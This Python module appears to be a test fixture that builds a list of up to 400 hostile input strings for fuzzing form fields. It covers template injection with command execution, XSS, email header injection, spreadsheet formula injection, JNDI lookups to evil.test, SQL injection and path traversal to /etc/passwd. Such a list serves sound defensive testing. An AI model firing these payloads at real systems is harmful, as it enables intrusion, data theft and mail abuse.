"""Four hundred things people type where a name, an address or a number is asked for."""

from collections.abc import Sequence

_TEMPLATE = (
    "{{7*7}}", "{{ 7*7 }}", "{%for x in range(9)%}49{%endfor%}", "{{config}}", "{{self.__init__.__globals__}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}", "{% include '/etc/passwd' %}", "{{ cycler.__init__ }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}", "{# gone #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "*{7*7}",
    "@(7*7)", "{{merchant}}", "{{ link }}", "{{ support }}", "{% raw %}{{x}}{% endraw %}", "{{ '%c'|format(49) }}",
    "{{", "}}", "{%", "{% endif %}", "%(name)s", "{name}", "{0.__class__}", "$(id)", "`id`", "{{ undefined_thing }}",
)  # fmt: skip
_HTML = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "</td></tr></table>",
    "<!-- ", "-->", "]]>", "<style>*{display:none}</style>", "</title><h1>x</h1>", "&lt;b&gt;", "&#60;b&#62;",
    "<a href='https://evil.test'>pay here</a>", "<iframe src=//evil.test>", "<form action=//evil.test>", "<base href=//evil.test>",
    "<meta http-equiv=refresh content=0;url=//evil.test>", "javascript:alert(1)", "data:text/html,<b>x</b>", "' onmouseover='x",
    "\" style=\"position:fixed", "<b", "<plaintext>", "<link rel=stylesheet href=//evil.test>", "<math><mi//xlink:href>", "<%00script>",
    "<scr\u0000ipt>", "\uff1cscript\uff1e", "<body bgcolor=red>", "<table><tr><td>x", "</html>",
)  # fmt: skip
_HEADER = (
    "\r\nBcc: evil@evil.test", "\nBcc: evil@evil.test", "\rBcc: evil@evil.test", "\r\n\r\n<b>body</b>", "\n.\nMAIL FROM:<x@y.z>",
    "\r\n.\r\nQUIT", "%0d%0aBcc: evil@evil.test", "\\r\\nBcc: x", "\u2028Bcc: evil@evil.test", "\u2029Bcc: x", "\x85Bcc: x",
    "\x0bBcc: x", "\x0cBcc: x", "\x1cBcc: x", "\x1dBcc: x", "\x1eBcc: x", "=?utf-8?b?DQpCY2M6IGV2aWxAZXZpbC50ZXN0?=",
    "=?utf-8?q?=0D=0ABcc:_x?=", ",evil@evil.test", ";evil@evil.test", "<evil@evil.test>", "a@b.test, evil@evil.test", "\r\n To: evil@evil.test",
    "\r\nContent-Type: text/html", "\r\nMIME-Version: 9", "\n\n--===============boundary", "\r\nReply-To: evil@evil.test", "undisclosed:;",
    "\t\r\n \r\nX: y", "(comment)evil@evil.test",
)  # fmt: skip
_FORMULA = (
    "=cmd|'/C calc'!A0", "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "=HYPERLINK(\"https://evil.test\")",
    "=IMPORTXML(\"https://evil.test\",\"//a\")", "=DDE(\"cmd\";\"/C calc\")", "|calc", "%0A=1+1", "\uff1d1+1", ";=1+1", ",=1+1",
)  # fmt: skip
_LOG = (
    "\n2026-09-01 00:00:00 ERROR all is lost", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b[2J", "${jndi:ldap://evil.test/a}",
    "\b\b\b\b", "\r                overwritten", "%s%s%s%n", "\x9b31m", "\n{\"level\": \"error\"}",
)  # fmt: skip
_BIDI = (
    "\u202eevil", "\u202devil", "\u202aevil\u202c", "\u202bevil", "\u2066evil\u2069", "\u2067evil", "\u2068evil", "\u200eevil",
    "\u200fevil", "\u061cevil", "\ufeffevil", "\u00adevil", "\u2060evil", "\u180eevil", "e\u0301vil" + "\u0301" * 40,
)  # fmt: skip
_CONTROL = tuple(f"evil{chr(code)}evil" for code in (*range(0x20), *range(0x7F, 0x85)))
_OTHER = (
    "../../../etc/passwd", "..\\..\\windows", "/dev/null", "file:///etc/passwd", "'; DROP TABLE message; --", "' OR 1=1 --",
    "\" OR \"\"=\"", "1; SELECT pg_sleep(9)", "null", "undefined", "NaN", "True", "[]", "{}", "0", "-1", "9" * 400, "A" * 5000,
    "https://evil.test", "www.evil.test", "evil.test/pay", "Your account is blocked, call 0123456789", "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),
    "\u0000", "%00", "xn--80ak6aa92e", "\u0430pple", "\ufffd", "\uffff", "\U000e0041\U000e0042",
)  # fmt: skip
_SEEDS = (*_TEMPLATE, *_HTML, *_HEADER, *_FORMULA, *_LOG, *_BIDI, *_CONTROL, *_OTHER)

PAYLOADS: Sequence[str] = tuple(
    dict.fromkeys([*_SEEDS, *(f"Ann {seed}" for seed in _SEEDS), *(f"{seed} Ann" for seed in _SEEDS)])
)[:400]
